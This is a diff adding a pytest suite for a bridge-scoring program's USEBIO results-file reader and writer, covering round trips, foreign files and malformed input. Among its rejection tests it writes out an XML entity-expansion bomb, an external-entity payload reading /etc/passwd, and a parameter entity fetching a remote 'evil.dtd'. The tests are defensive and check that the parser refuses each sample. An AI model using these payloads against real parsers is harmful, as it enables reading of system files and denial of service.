@@ -1,0 +1,352 @@
+"""USEBIO 1.2 results files: the FFB session written as USEBIO and read back with every
+published figure, sessions of every shape round-tripped, a file as other programs write it,
+and anything else (an XML bomb, an external entity, garbage) refused with a UsebioError.
+"""
+
+from collections.abc import Callable
+from datetime import date
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from scorekeeper.rules.bridge import Artificial, Contract
+from scorekeeper.rules.common import Seat, Side
+from scorekeeper.rules.duplicate import Pair, Ranking, Scoring, SessionRecord
+from scorekeeper.rules.files import (
+    MAX_BYTES,
+    Difference,
+    Figure,
+    FileRule,
+    PublishedResult,
+    PublishedStanding,
+)
+from scorekeeper.rules.pbn import PbnFile, read_pbn
+from scorekeeper.rules.usebio import (
+    UsebioError,
+    UsebioFile,
+    differences,
+    read_usebio,
+    write_usebio,
+)
+from tests.rules.test_pbn import STORED, board_by_board, sessions
+
+
+@pytest.fixture(scope="module")
+def ffb() -> PbnFile:
+    return read_pbn(STORED)
+
+
+@pytest.fixture(scope="module")
+def ffb_usebio(ffb: PbnFile) -> bytes:
+    return write_usebio(ffb.session)
+
+
+def test_the_ffb_session_goes_through_usebio_unchanged(ffb: PbnFile, ffb_usebio: bytes) -> None:
+    usebio = read_usebio(ffb_usebio)
+    assert usebio.session == ffb.session
+    assert differences(usebio) == []
+    assert write_usebio(usebio.session) == ffb_usebio
+
+
+def test_its_published_figures_are_the_pbn_files(ffb: PbnFile, ffb_usebio: bytes) -> None:
+    usebio = read_usebio(ffb_usebio)
+    for pbn_figures, figures in zip(ffb.published.results, usebio.published.results, strict=True):
+        assert (figures.mp_ns, figures.mp_ew) == (pbn_figures.mp_ns, pbn_figures.mp_ew)
+        # PBN gives a score from the side that scored it; USEBIO always North-South's.
+        if pbn_figures.score_ns is not None:
+            assert figures.score_ns == pbn_figures.score_ns
+        elif pbn_figures.score_ew is not None:
+            assert figures.score_ns == -pbn_figures.score_ew
+        else:
+            assert figures.score_ns is None
+    assert usebio.published.standings == ffb.published.standings
+    assert usebio.published.standings[0] == PublishedStanding(Pair(7), 1, 771.2, 61.21)
+    assert [line.tiebreak for line in usebio.published.standings[30:32]] == [2, 0]
+
+
+def test_the_ffb_usebio_file_looks_as_usebio_files_do(ffb_usebio: bytes) -> None:
+    text = ffb_usebio.decode("utf-8")
+    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<USEBIO Version="1.2">')
+    assert '<EVENT EVENT_TYPE="PAIRS">' in text
+    assert "<DATE>06/02/2022</DATE>" in text
+    assert "<BOARD_SCORING_METHOD>MATCH_POINTS</BOARD_SCORING_METHOD>" in text
+    assert "<WINNER_TYPE>1</WINNER_TYPE>" in text
+    assert "Séance 1</EVENT_DESCRIPTION>" in text
+    assert text.count("<TRAVELLER_LINE>") == 660
+    assert text.count("<PAIR>") == 44
+    assert text.count("<SCORE>A6060</SCORE>") == 3
+    assert text.count("<SCORE>A4060</SCORE>") == 1
+    assert "<CONTRACT>3NT</CONTRACT>" in text and "<PLAYED_BY>S</PLAYED_BY>" in text
+    assert text.count("<HAND>") == 120
+    assert "<DIRECTION>North</DIRECTION>" in text
+
+
+def test_a_figure_changed_in_the_file_is_reported(ffb_usebio: bytes) -> None:
+    line = b"<NS_MATCH_POINTS>28.3</NS_MATCH_POINTS>"
+    changed = ffb_usebio.replace(line, b"<NS_MATCH_POINTS>28.4</NS_MATCH_POINTS>", 1)
+    changed = changed.replace(b"<PERCENTAGE>61.21</PERCENTAGE>", b"<PERCENTAGE>61.2</PERCENTAGE>")
+    assert differences(read_usebio(changed)) == [
+        Difference(Figure.MATCHPOINTS, 28.4, 28.3, board=1, table=3, side=Side.NS),
+        Difference(Figure.PERCENTAGE, 61.2, 61.21, pair=Pair(7)),
+    ]
+
+
+@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(sessions())
+def test_any_session_is_written_and_read_back(session: SessionRecord) -> None:
+    usebio = read_usebio(write_usebio(session))
+    assert usebio.session == board_by_board(session)
+    assert differences(usebio) == []
+
+
+# --- A file as another program writes it -------------------------------------------------------
+
+OTHER = """\
+<?xml version="1.0" encoding="iso-8859-1"?>
+<!DOCTYPE USEBIO SYSTEM "http://www.usebio.org/files/usebio_v1_2.dtd">
+<USEBIO Version="1.2">
+  <CLUB><CLUB_NAME>Little Snoring BC</CLUB_NAME></CLUB>
+  <EVENT EVENT_TYPE="MP_PAIRS">
+    <PROGRAM_NAME>Scorer</PROGRAM_NAME>
+    <EVENT_DESCRIPTION>Tuesday Mitchell \xe9t\xe9</EVENT_DESCRIPTION>
+    <DATE>3/9/2024</DATE>
+    <WINNER_TYPE>2</WINNER_TYPE>
+    <SESSION SESSION_ID="1"><SECTION SECTION_ID="A">
+    <PARTICIPANTS>
+      <PAIR><PAIR_NUMBER>1 NS</PAIR_NUMBER><DIRECTION>NS</DIRECTION>
+        <PLAYER><PLAYER_NAME>Ann Smith</PLAYER_NAME><NATIONAL_ID_NUMBER>1</NATIONAL_ID_NUMBER>
+        </PLAYER><PLAYER><PLAYER_NAME>Bob O'Neill</PLAYER_NAME></PLAYER>
+        <PLACE>1=</PLACE><TOTAL_SCORE>1</TOTAL_SCORE><PERCENTAGE>50.00</PERCENTAGE>
+        <MASTER_POINTS><MASTER_POINTS_AWARDED>6</MASTER_POINTS_AWARDED></MASTER_POINTS>
+      </PAIR>
+      <PAIR><PAIR_NUMBER>2 NS</PAIR_NUMBER><DIRECTION>NS</DIRECTION>
+        <PLACE>1=</PLACE><TOTAL_SCORE>1</TOTAL_SCORE><PERCENTAGE>50.00</PERCENTAGE></PAIR>
+      <PAIR><PAIR_NUMBER>1 EW</PAIR_NUMBER><DIRECTION>EW</DIRECTION>
+        <PLACE>1</PLACE><TOTAL_SCORE>1.2</TOTAL_SCORE><PERCENTAGE>60.00</PERCENTAGE></PAIR>
+      <PAIR><PAIR_NUMBER>2 EW</PAIR_NUMBER><DIRECTION>EW</DIRECTION>
+        <PLACE>2</PLACE><TOTAL_SCORE>0.8</TOTAL_SCORE><PERCENTAGE>40.00</PERCENTAGE></PAIR>
+    </PARTICIPANTS>
+    <BOARD>
+      <BOARD_NUMBER>5</BOARD_NUMBER>
+      <TRAVELLER_LINE>
+        <NS_PAIR_NUMBER>1 NS</NS_PAIR_NUMBER><EW_PAIR_NUMBER>2 EW</EW_PAIR_NUMBER>
+        <CONTRACT>3NTx</CONTRACT><PLAYED_BY>W</PLAYED_BY><LEAD>H4</LEAD>
+        <TRICKS>8</TRICKS><SCORE>100</SCORE>
+        <NS_MATCH_POINTS>2</NS_MATCH_POINTS><EW_MATCH_POINTS>0</EW_MATCH_POINTS>
+      </TRAVELLER_LINE>
+      <TRAVELLER_LINE>
+        <NS_PAIR_NUMBER>2 NS</NS_PAIR_NUMBER><EW_PAIR_NUMBER>1 EW</EW_PAIR_NUMBER>
+        <SCORE>A4060</SCORE>
+        <NS_MATCH_POINTS>0.8</NS_MATCH_POINTS><EW_MATCH_POINTS>1.2</EW_MATCH_POINTS>
+      </TRAVELLER_LINE>
+      <TRAVELLER_LINE>
+        <NS_PAIR_NUMBER>3 NS</NS_PAIR_NUMBER><EW_PAIR_NUMBER>3 EW</EW_PAIR_NUMBER>
+        <CONTRACT>PASS</CONTRACT><SCORE>0</SCORE>
+      </TRAVELLER_LINE>
+    </BOARD>
+    </SECTION></SESSION>
+  </EVENT>
+  <HANDSET><BOARD><BOARD_NUMBER>5</BOARD_NUMBER>
+    <HAND><DIRECTION>North</DIRECTION><CLUBS>AKQJT98765432</CLUBS><DIAMONDS/><HEARTS/>
+      <SPADES/></HAND>
+  </BOARD></HANDSET>
+</USEBIO>
+""".encode("latin-1")
+
+
+def test_a_file_from_another_program() -> None:
+    usebio = read_usebio(OTHER)
+    session = usebio.session
+    assert session.ranking is Ranking.BY_DIRECTION
+    assert session.scoring is Scoring.MATCHPOINTS
+    assert (session.event, session.date) == ("Tuesday Mitchell été", date(2024, 9, 3))
+    first, artificial, passed = session.results
+    assert (first.board, first.table, first.round, first.ns, first.ew) == (5, 1, 1, 1, 2)
+    assert (first.contract, first.declarer, first.tricks, first.lead) == (
+        Contract(3, "NT", 1),
+        Seat.WEST,
+        8,
+        "H4",
+    )
+    assert (artificial.table, artificial.artificial_ns, artificial.artificial_ew) == (
+        2,
+        Artificial.AVERAGE_MINUS,
+        Artificial.AVERAGE_PLUS,
+    )
+    assert passed.passed_out
+    assert session.names == {Pair(1, Side.NS): "Ann Smith - Bob O'Neill"}
+    assert session.deals == {5: "N:...AKQJT98765432 - - -"}
+    assert usebio.published.results[0] == PublishedResult(score_ns=100, mp_ns=2.0, mp_ew=0.0)
+    assert usebio.published.standings[0].rank == 1
+    # Three results, not two: the published figures were of a two-result board.
+    assert {d.figure for d in differences(usebio)} == {
+        Figure.MATCHPOINTS,
+        Figure.TOTAL,
+        Figure.PERCENTAGE,
+        Figure.RANK,
+    }
+
+
+def test_artificial_scores_written_other_ways() -> None:
+    for written, expected in (
+        ("<SCORE>A60</SCORE>", (Artificial.AVERAGE_PLUS, Artificial.AVERAGE_MINUS)),
+        ("<SCORE>A+</SCORE>", (Artificial.AVERAGE_PLUS, Artificial.AVERAGE_MINUS)),
+        ("<SCORE>A5050</SCORE>", (Artificial.AVERAGE, Artificial.AVERAGE)),
+        (
+            "<NS_SCORE>A60</NS_SCORE><EW_SCORE>A60</EW_SCORE>",
+            (Artificial.AVERAGE_PLUS, Artificial.AVERAGE_PLUS),
+        ),
+    ):
+        data = OTHER.replace(b"<SCORE>A4060</SCORE>", written.encode())
+        result = read_usebio(data).session.results[1]
+        assert (result.artificial_ns, result.artificial_ew) == expected, written
+
+
+# --- Bad files: a UsebioError, never anything else -----------------------------------------------
+
+
+def other(old: bytes, new: bytes) -> bytes:
+    assert old in OTHER, old
+    return OTHER.replace(old, new, 1)
+
+
+BOMB = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+]>
+<USEBIO><EVENT><EVENT_DESCRIPTION>&lol4;</EVENT_DESCRIPTION></EVENT></USEBIO>
+"""
+EXTERNAL = b"""<?xml version="1.0"?>
+<!DOCTYPE USEBIO [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<USEBIO><EVENT><EVENT_DESCRIPTION>&secret;</EVENT_DESCRIPTION></EVENT></USEBIO>
+"""
+PARAMETER = b"""<?xml version="1.0"?>
+<!DOCTYPE USEBIO [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
+<USEBIO/>
+"""
+
+
+@pytest.mark.parametrize(
+    ("data", "rule"),
+    [
+        (b"", FileRule.XML),
+        (b"not xml", FileRule.XML),
+        (b"<USEBIO><EVENT>", FileRule.XML),
+        (BOMB, FileRule.XML_FORBIDDEN),
+        (EXTERNAL, FileRule.XML_FORBIDDEN),
+        (PARAMETER, FileRule.XML_FORBIDDEN),
+        (b"<PBN/>", FileRule.ROOT),
+        (other(b"iso-8859-1", b"iso-8x59-1"), FileRule.ENCODING),
+        (other(b"iso-8859-1", b"utf-16"), FileRule.XML),
+        (b"<USEBIO/>", FileRule.MISSING),
+        (other(b'EVENT_TYPE="MP_PAIRS"', b'EVENT_TYPE="TEAMS"'), FileRule.EVENT_TYPE),
+        (
+            other(
+                b"<WINNER_TYPE>",
+                b"<BOARD_SCORING_METHOD>CROSS_IMPS</BOARD_SCORING_METHOD><WINNER_TYPE>",
+            ),
+            FileRule.SCORING,
+        ),
+        (other(b"<WINNER_TYPE>2", b"<WINNER_TYPE>3"), FileRule.NUMBER),
+        (other(b"3/9/2024", b"31/9/2024"), FileRule.DATE),
+        (
+            other(b"<BOARD_NUMBER>5</BOARD_NUMBER>", b"<BOARD_NUMBER>0</BOARD_NUMBER>"),
+            FileRule.NUMBER,
+        ),
+        (other(b"<NS_PAIR_NUMBER>1 NS", b"<NS_PAIR_NUMBER>one"), FileRule.PAIR_NUMBER),
+        (other(b"<EW_PAIR_NUMBER>2 EW</EW_PAIR_NUMBER>", b""), FileRule.MISSING),
+        (other(b"3NTx", b"3NTz"), FileRule.CONTRACT),
+        (other(b"<PLAYED_BY>W", b"<PLAYED_BY>Q"), FileRule.DECLARER),
+        (other(b"<TRICKS>8", b"<TRICKS>14"), FileRule.NUMBER),
+        (other(b"<SCORE>100", b"<SCORE>1OO"), FileRule.SCORE),
+        (other(b"<SCORE>A4060", b"<SCORE>A7030"), FileRule.SCORE),
+        (other(b"<CONTRACT>PASS</CONTRACT><SCORE>0", b"<SCORE>50"), FileRule.NOT_PLAYED),
+        (other(b"<NS_MATCH_POINTS>2", b"<NS_MATCH_POINTS>two"), FileRule.FIGURE),
+        (other(b"<DIRECTION>NS</DIRECTION>", b"<DIRECTION>XY</DIRECTION>"), FileRule.DIRECTION),
+        (other(b"<PLACE>1=", b"<PLACE>first"), FileRule.NUMBER),
+        (other(b"<NS_PAIR_NUMBER>3 NS", b"<NS_PAIR_NUMBER>1 NS"), FileRule.PAIR_TWICE),
+        (other(b"<CLUBS>AKQJT98765432", b"<CLUBS>AKQJT9876543Z"), FileRule.DEAL),
+        (other(b"<SCORE>100</SCORE>", b"<SCORE>A+</SCORE>"), FileRule.RESULT),
+    ],
+)
+def test_a_bad_file_says_which_rule(data: bytes, rule: FileRule) -> None:
+    with pytest.raises(UsebioError) as raised:
+        read_usebio(data)
+    assert raised.value.rule is rule
+    assert str(raised.value)
+
+
+def test_the_place_of_a_fault_is_given() -> None:
+    with pytest.raises(UsebioError) as raised:
+        read_usebio(other(b"<TRICKS>8", b"<TRICKS>14"))
+    assert raised.value.values["where"] == "Board 5, traveller line 1"
+    assert str(raised.value) == (
+        "Board 5, traveller line 1: TRICKS must be a whole number from 0 to 13, not '14'."
+    )
+    with pytest.raises(UsebioError) as raised:
+        read_usebio(b"<USEBIO>\n<EVENT>\n</USEBI>")
+    assert (raised.value.values["line"], raised.value.values["column"]) == (3, 2)
+
+
+def test_a_file_too_large_is_refused_before_it_is_parsed() -> None:
+    with pytest.raises(UsebioError) as raised:
+        read_usebio(b" " * (MAX_BYTES + 1))
+    assert raised.value.rule is FileRule.TOO_LARGE
+
+
+def check_reads_or_refuses(read: Callable[[], UsebioFile]) -> None:
+    """Reading gives a UsebioError, or a file whose session scores and compares."""
+    try:
+        usebio = read()
+    except UsebioError as error:
+        assert str(error)
+        return
+    differences(usebio)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.binary(max_size=2000))
+def test_random_bytes_are_refused(data: bytes) -> None:
+    check_reads_or_refuses(lambda: read_usebio(data))
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.integers(0, len(OTHER) - 1), st.sampled_from(list(b'<>/"&;=! x0-9A')), st.booleans())
+def test_the_other_file_with_a_byte_changed_or_cut_is_refused_or_read(
+    at: int, byte: int, cut: bool
+) -> None:
+    data = OTHER[:at] if cut else OTHER[:at] + bytes([byte]) + OTHER[at + 1 :]
+    check_reads_or_refuses(lambda: read_usebio(data))
+
+
+ELEMENTS = [
+    "NS_PAIR_NUMBER", "EW_PAIR_NUMBER", "CONTRACT", "PLAYED_BY", "TRICKS", "SCORE", "LEAD",
+    "NS_MATCH_POINTS", "TABLE_NUMBER", "ROUND_NUMBER", "BOARD_NUMBER", "PAIR_NUMBER", "PLACE",
+    "TOTAL_SCORE", "PERCENTAGE", "TIEBREAK", "DIRECTION", "WINNER_TYPE", "DATE", "SPADES",
+]  # fmt: skip
+values = st.sampled_from(
+    ["", "0", "-1", "14", "1000", "A60", "A6040", "A9999", "PASS", "8S", "3NTxx", "N", "Q",
+     "28.3", "nan", "1e9", "1=", "NS", "EW", "31/02/2024", "XYZ", "é", "  7 NS  "]
+)  # fmt: skip
+
+
+@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(sessions(), st.sampled_from(ELEMENTS), values, st.data())
+def test_a_written_file_with_a_value_changed_is_refused_or_read(
+    session: SessionRecord, element: str, value: str, data: st.DataObject
+) -> None:
+    text = write_usebio(session).decode("utf-8")
+    opening = f"<{element}>"
+    count = text.count(opening)
+    if count:
+        which = data.draw(st.integers(0, count - 1))
+        start = -1
+        for _ in range(which + 1):
+            start = text.index(opening, start + 1)
+        end = text.index(f"</{element}>", start)
+        text = text[: start + len(opening)] + value + text[end:]
+    check_reads_or_refuses(lambda: read_usebio(text.encode("utf-8")))
